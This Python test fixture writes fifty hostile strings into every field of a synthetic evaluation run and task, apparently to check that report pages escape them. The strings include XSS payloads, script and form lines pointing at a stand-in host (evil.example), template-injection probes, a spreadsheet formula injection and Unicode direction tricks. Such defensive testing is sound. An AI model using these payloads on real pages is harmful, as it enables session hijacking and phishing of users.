"""Fifty texts that a model, a data file or a person may write to break a page, and a run that has them everywhere.

Every page is shown with all of them: `test_hostile.py` knows all routes.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import yaml

from assay.core.report import Curve, Entry, Interval, Metric, Point, Report, Slice, Table
from assay.core.types import ASK, Call, End, Failure, Record, Request, Response, Score, Usage
from assay.journal.journal import Journal
from assay.journal.run_files import FILES, RunInfo, Summary, write_info, write_summary
from assay.journal.spending import CallCounts
from assay.store.notes import change_notes

from support.hop_task import write_lines

STRINGS = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<ScRiPt/src=//evil.example/x.js></ScRiPt>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)>",
    "<embed src=//evil.example>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{display:none}</style>",
    "<div style='position:fixed;inset:0'>over everything</div>",
    "<form action=//evil.example><input name=token><button>Continue</button></form>",
    "<a href='javascript:alert(1)'>click</a>",
    "<a href=//evil.example data-into=rows>click</a>",
    "<dialog open>Your session has ended</dialog>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<body onpageshow=alert(1)>",
    "<!-- a comment that never ends",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "</pre></div></main><h1>gone</h1>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</option></select><script>alert(1)</script>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)',
    "' autofocus onfocus='alert(1)",
    "`${alert(1)}`",
    '"><img src=x onerror=alert(1)>',
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "{{ 7 * 7 }}{% raw %}",
    "{{ ''.__class__.__mro__ }}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;b&#62;",
    "a\u202egnp.exe\u202c right-to-left override",
    "\u2066isolated\u2069 \u200b\u200f\ufeff\u00ad zero width",
    "bell \x07 escape \x1b[31m null-like \x01 delete \x7f next line \x85",
    "line\u2028separator\u2029paragraph\r\ncarriage return",
    "مرحبا بالعالم שלום 42 <b>bold</b>",
    "你好，世界 " + "长" * 300,
    "=cmd|'/c calc'!A1 +1 -1 @SUM(1)",
    "z̷̢̛a̵͝lgo " + "\u0300" * 40 + " \U000e0041\U000e0042 tags 🏳️‍🌈",
]
SCORER = "hostile@1"


def write_hostile_run(folder: Path, value: float = 0.0) -> Path:
    """Write a run of fifty cases. Case N has the Nth text in every field; the run itself has all of them."""
    assert len(set(STRINGS)) == 50
    folder.mkdir(parents=True)
    for name in FILES:
        (folder / name).touch()
    journal = Journal(folder, [SCORER], [])
    for number, text in enumerate(STRINGS):
        _write_case(journal, number, text, value)
    journal.close()
    everything = "\n".join(STRINGS)
    info = RunInfo(
        suite="<b>suite</b>",
        ask="a",
        started=1_700_000_000.0,
        version="0",
        total=len(STRINGS),
        command=["assay", *STRINGS],
        spec={"model": everything},
        parts={},
        facts={},
    )
    write_info(folder, info)
    metrics = [
        Metric(
            name=text,
            value=0.5,
            denominator=4,
            numerator=2.0,
            filter=text,
            unit=text,
            interval=Interval(0.1, 0.9),
            left_out={text: 3},
            warning=text,
        )
        for text in STRINGS
    ]
    missing = [Metric(name=text, value=None, denominator=0, reason=text) for text in STRINGS]
    entry = Entry(
        name=everything,
        metrics=[*metrics, *missing],
        slices=[Slice(by=text, name=text, metrics=metrics[:1]) for text in STRINGS],
        tables=[Table(name=text, columns=[text], rows=[[text]], title=text, note=text) for text in STRINGS],
        curves=[
            Curve(name=text, x=text, points=[Point(at, metrics[0]) for at in (1, 2)], title=text) for text in STRINGS
        ],
        notes=STRINGS,
    )
    summary = Summary(
        state="finished",
        score="1",
        scorers=[SCORER],
        total=len(STRINGS),
        ok=len(STRINGS) - 1,
        subject_error=1,
        infra_error=0,
        exit_code=0,
        seconds=1.0,
        spent=CallCounts(),
        this_start={},
        files=[],
        failures=dict.fromkeys(STRINGS, 1),
        first_failures={text: text for text in STRINGS},
        report=Report(entries=[entry], entry_word=STRINGS[0], notices=STRINGS),
    )
    write_summary(folder, summary)
    change_notes(folder, text=everything, add_tags=["<b>tag</b>"])
    return folder


def _write_case(journal: Journal, number: int, text: str, value: float) -> None:
    head = (number, text, text, text)
    request = Request(model=text, messages=[{"role": text, "content": text}], params={text: text})
    response = Response(text, finish=text, usage=Usage(1, 1), reasoning=text)
    journal.call(Call(*head, ASK, 1, "first", 0, request, response))
    journal.call(Call(*head, ASK, 1, "second", 0, Request(model="m", prompt=text), None, Failure(text, text)))
    failure = Failure("user_code", text, text, traceback=text) if number == 0 else None
    end = End(*head, ASK, 1, failure.status if failure else "ok", [], failure, label=text, tags=(text,))
    journal.end_case(end, [Record(*head, 1, "answer", text, text)])
    score = Score(
        *head,
        SCORER,
        text,
        text,
        value=value,
        reason=text,
        data={text: text},
        expected={text: text},
        label=text,
    )
    journal.end_scoring(End(*head, SCORER, 1, "ok", []), [score])


HOP_CODE = """
import json
from pathlib import Path

TEXTS = json.loads(Path(__file__).with_name("texts.json").read_text())


async def hop_hostile(session, fields):
    errors = [{"severity": text, "text": text} for text in TEXTS]
    return "LACK_OF_INFO", {
        "missing_info": TEXTS,
        "answer": chr(10).join(TEXTS),
        "errors": errors,
        **{text: text for text in TEXTS},
    }
"""


def write_hostile_task(folder: Path) -> None:
    """Write a HOP task that has the texts in its contract, settings, files, logs and results."""
    (folder / "Hoplet").mkdir(parents=True)
    (folder / "TestCases").mkdir()
    (folder / "Hoplet" / "Hop.py").write_text(HOP_CODE)
    (folder / "Hoplet" / "texts.json").write_text(json.dumps(STRINGS))
    inputs = {text: {"type": "string", "label": text, "description": text, "example": text} for text in STRINGS}
    outputs: dict[str, Any] = {text: {"type": "string", "label": text} for text in STRINGS}
    outputs["score"] = {
        "type": "int",
        "label": STRINGS[0],
        "bands": {text: n for n, text in enumerate(STRINGS)},
    }
    outputs["kind"] = {"type": "any", "aggregate": "distribution", "label": STRINGS[1]}
    contract = {"name": STRINGS[3], "version": STRINGS[0], "inputs": inputs, "outputs": outputs}
    (folder / "Hoplet" / "contract.yaml").write_text(yaml.safe_dump(contract))
    settings = {
        "llms": {text: {"model": "script/none.jsonl"} for text in STRINGS},
        "profiles": {text: {"run": text} for text in STRINGS},
    }
    (folder / "settings.yaml").write_text(yaml.safe_dump(settings))
    rows = []
    for number, text in enumerate(STRINGS):
        row: dict[str, Any] = {"id": text, "tag": text, "difficulty": text, "description": text, text: text}
        row |= {"expected_score": number, f"expected_{text}": text, "expected_kind": [text]}
        result = {"score": number, "kind": [text, {text: text}], "summary": text, text: text}
        rows.append((row, result, text))
    metas = [{"_type": "meta", "profile": text, text: text} for text in STRINGS]
    flat = [
        {**row, "hop_result": result, "hop_stats": {"status": "OK", "retry_count": text}, "profile": text}
        for row, result, text in rows
    ]
    views = [
        {"input": row, "error": text} if number % 2 else {"input": row, "result": json.dumps([text, result])}
        for number, (row, result, text) in enumerate(rows)
    ]
    write_lines(folder / "TestCases" / "flat.jsonl", [*metas, *flat])
    write_lines(folder / "TestCases" / "view.jsonl", views)
    write_lines(folder / "TestCases" / "other.jsonl", [*STRINGS[:1], *({text: text} for text in STRINGS)])
    for number in (3, 42, 45):  # names of files cannot have a slash
        write_lines(folder / "TestCases" / f"{STRINGS[number]}.jsonl", [rows[number][0]])
    step = {"type": "step", "run_id": "r", "timestamp": 1.0, "step": 1, "duration": 1.0, "retry_count": 0}
    end = {"type": "run_end", "run_id": "r", "timestamp": 1.0, "duration": 1.0, "status": "OK"}
    steps = [{**step, "op": text, "task": text, "status": text} for text in STRINGS]
    write_lines(folder / "TestCases" / "observer.jsonl", [*steps, end])
